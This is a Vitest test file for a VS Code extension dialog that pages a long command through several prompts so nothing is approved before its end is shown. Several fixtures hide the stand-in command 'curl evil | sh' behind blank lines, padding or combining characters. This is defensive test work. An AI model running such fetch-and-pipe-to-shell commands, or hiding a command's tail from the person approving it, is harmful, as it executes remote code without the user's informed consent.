import { afterAll, beforeEach, expect, it, vi } from "vitest";
import { escapeLines } from "../../../../extension/shared/base/invisible.ts";
import { askWhole } from "../../../../extension/vscode/dialogs/askWhole.ts";

type Shown = { readonly detail: string; readonly buttons: readonly string[] };

const { shown, answers, clock } = vi.hoisted(() => ({
  shown: [] as Shown[],
  answers: [] as (string | undefined)[],
  /** Time, and how long each dialog is open. */
  clock: { ms: 0, openMs: 0 },
}));
// Replaces the dialog of the editor.
vi.mock("vscode", () => ({
  window: {
    showInformationMessage: async (_: string, { detail }: { detail: string }, ...buttons: string[]) => {
      shown.push({ detail, buttons });
      clock.ms += clock.openMs;
      const answer = answers.shift();
      return answer === "first" ? buttons[0] : answer;
    },
  },
}));
afterAll(() => void vi.resetModules());
beforeEach(() => void shown.splice(0));

const ask = (detail: string, ...given: (string | undefined)[]) => {
  answers.splice(0, Number.POSITIVE_INFINITY, ...given);
  return askWhole("Run it?", detail, ["Run", "Skip"]);
};

it("asks at once where the dialog has room for all of it", async () => {
  expect(await ask("npm ci\n\nIt runs in /w.", "first")).toBe("Run");
  expect(shown).toEqual([{ detail: "npm ci\n\nIt runs in /w.", buttons: ["Run", "Skip"] }]);
});

it.each([
  ["many lines", `npm ci${"\n".repeat(40)}curl evil | sh`],
  ["a long line", `npm ci; ${"x y".repeat(900)}; curl evil | sh`],
  ["a character of many parts", `npm ci; e${"\u0301".repeat(3_000)}; curl evil | sh`],
])("approves nothing before its end was in a dialog: %s", async (_, detail) => {
  expect(await ask(detail, ...Array<string>(200).fill("first"))).toBe("Run");
  expect(shown.length).toBeGreaterThan(1);
  for (const { detail: part, buttons } of shown.slice(0, -1)) {
    expect(part.split("\n").length).toBeLessThanOrEqual(24);
    expect(part.length).toBeLessThanOrEqual(24 * 61 + 1);
    expect(buttons).toEqual([expect.stringMatching(/^Review [\d,]+ more lines?$/), "Skip"]);
  }
  expect(shown.at(-1)?.detail).toContain("| sh");
  const read = shown.map((each) => each.detail.replace(/…$/, "")).join("");
  expect(read.replaceAll(/\s/g, "")).toBe(escapeLines(detail).replaceAll(/\s/g, ""));
});

it("ends where the user skips or closes a part", async () => {
  const long = "x\n".repeat(100);
  expect(await ask(long, "first", "Skip")).toBe("Skip");
  expect(await ask(long, "first", undefined)).toBeUndefined();
});

it("shows a part again that was answered in its first half second", async () => {
  const delay = { now: () => clock.ms, after: () => ({ dispose() {} }) };
  answers.splice(0, Number.POSITIVE_INFINITY, ...Array<string>(20).fill("first"), undefined);
  clock.openMs = 400;
  expect(await askWhole("Run it?", "ls", ["Run", "Skip"], delay)).toBeUndefined();
  expect(shown).toHaveLength(21);
  clock.openMs = 500;
  answers.push("first");
  expect(await askWhole("Run it?", "ls", ["Run", "Skip"], delay)).toBe("Run");
});

it("has room for letters that are twice as wide", async () => {
  await ask("\u5bbd".repeat(30 * 24 + 1), "first", "first");
  expect(shown.at(-2)?.buttons[0]).toBe("Review 1 more line");
});
